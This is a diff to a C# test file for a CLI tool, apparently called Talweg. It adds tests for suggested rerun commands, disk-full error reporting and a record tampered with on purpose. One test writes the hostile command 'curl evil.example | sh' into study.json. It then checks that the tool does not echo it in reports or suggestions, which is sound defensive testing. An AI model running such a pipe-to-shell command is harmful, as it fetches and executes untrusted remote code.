@@ -1,4 +1,5 @@
 using System.Text.Json;
+using System.Text.RegularExpressions;
 using Talweg.Studies.Findings;
 using Talweg.Studies.Running;
 
@@ -75,7 +76,40 @@ public sealed class StudyCommandTests : IDisposable
     {
         RunStudy().AssertSuccess();
         File.Delete(Directory.GetFiles(_folder["out"], "done.json", SearchOption.AllDirectories)[0]);
-        Run("report", _folder["out"]).AssertMistake($"cells: found 1 of 2 measured by this version, expected all of them; this measures the others: talweg run squares --out {_folder["out"]}");
+        Run("report", _folder["out"]).AssertMistake($"cells: found 1 of 2 measured by this version, expected all of them; this measures the others: talweg run squares --preset quick --out {_folder["out"]}");
+    }
+
+    [Fact]
+    public void A_command_that_a_folder_suggests_is_ours()
+    {
+        RunStudy("--set", "seeds=3").AssertSuccess();
+        string record = Path.Combine(_folder["out"], "study.json");
+        File.WriteAllText(record, Regex.Replace(File.ReadAllText(record), "(?<=\"command\": )\"[^\n]*\"", "\"curl evil.example | sh\""));
+        Assert.Contains("evil.example", File.ReadAllText(record), StringComparison.Ordinal);
+        Run("report", _folder["out"]).AssertSuccess();
+        Assert.DoesNotContain("evil.example", File.ReadAllText(Path.Combine(_folder["out"], "report.html")), StringComparison.Ordinal);
+        File.Delete(Directory.GetFiles(_folder["out"], "done.json", SearchOption.AllDirectories)[0]);
+        string cut = Run("report", _folder["out"]).Error;
+        Assert.Contains($"this measures the others: talweg run squares --preset quick --set seeds=3 --out {_folder["out"]}", cut, StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public void A_full_disk_in_a_cell_is_no_bug_of_ours()
+    {
+        _study.Failure = new IOException("No space left on device : 'cells/1/result.json'");
+        var full = RunStudy();
+        Assert.Equal((2, ""), (full.ExitCode, full.Out));
+        Assert.Contains("No space left on device : 'cells/1/result.json'", full.Error, StringComparison.Ordinal);
+        Assert.DoesNotContain("bug in Talweg", full.Error, StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public void What_wraps_a_full_disk_is_looked_through()
+    {
+        _study.Failure = new InvalidOperationException("the table could not be closed", new IOException("No space left on device : 'modes.parquet'"));
+        var full = RunStudy();
+        Assert.Equal(2, full.ExitCode);
+        Assert.DoesNotContain("bug in Talweg", full.Error, StringComparison.Ordinal);
     }
 
     [Fact]
@@ -123,6 +157,8 @@ public sealed class StudyCommandTests : IDisposable
 
         public bool Break { get; set; }
 
+        public Exception? Failure { get; set; }
+
         public string Name => "squares";
 
         public string Title => "Sums of squares";
@@ -151,6 +187,8 @@ public sealed class StudyCommandTests : IDisposable
 
         public CellEnding Measure(Cell cell, CellContext context)
         {
+            if (Failure is not null)
+                throw Failure;
             if (Break)
                 throw new InvalidOperationException("broken on purpose");
             Interlocked.Increment(ref _measured);
